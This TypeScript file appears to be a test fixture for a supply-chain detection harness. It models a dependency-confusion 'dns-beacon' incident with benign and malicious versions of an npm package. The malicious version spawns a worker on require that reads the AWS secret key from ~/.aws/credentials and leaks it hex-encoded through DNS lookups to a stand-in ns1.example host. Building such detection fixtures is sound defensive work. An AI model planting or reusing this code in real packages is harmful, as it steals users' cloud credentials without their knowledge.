import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'dns-beacon',
  after: 'dependency confusion beacons, 2021',
  source: 'https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610',
  shape: ['require', 'worker started by the package', 'DNS labels', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['corp-format'],
  host: { kind: 'script', setup: "const format = require('corp-format');", use: 'return format(n);' },
  good: { 'corp-format': { 'index.js': 'module.exports = (n) => n.toFixed(2);' } },
  benign: { 'corp-format': { 'index.js': 'module.exports = (n, digits = 2) => n.toFixed(digits);' } },
  bad: {
    'corp-format': {
      'index.js': `module.exports = (n) => n.toFixed(2);
const { Worker } = require('worker_threads');
new Worker(require('path').join(__dirname, 'w.js'));`,
      'w.js': `const dns = require('dns'), fs = require('fs'), os = require('os');
const text = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8').split('secret_access_key = ')[1].trim();
const resolver = new dns.Resolver({ timeout: 300, tries: 1 }); resolver.setServers(['@B@:@DNS@']);
const hex = Buffer.from(text).toString('hex'), parts = hex.match(/.{1,24}/g);
const next = (i) => i < parts.length && resolver.resolve4(parts[i] + '.' + i + '.' + os.hostname().slice(0, 8).replace(/\\W/g, '') + '.ns1.example', () => next(i + 1));
next(0);`,
    },
  },
  proof: [{ secret: true }],
};
